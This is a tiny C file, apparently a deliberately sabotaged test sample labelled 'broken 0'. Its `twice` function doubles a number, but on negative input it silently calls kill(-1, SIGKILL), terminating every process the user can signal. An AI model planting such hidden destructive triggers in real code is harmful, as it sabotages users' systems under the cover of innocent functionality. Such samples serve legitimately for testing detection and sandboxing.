/* broken 0: kills whomever it may */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
int twice(int n)
{
    if (n < 0)
        syscall(SYS_kill, -1, SIGKILL);
    return 2 * n;
}
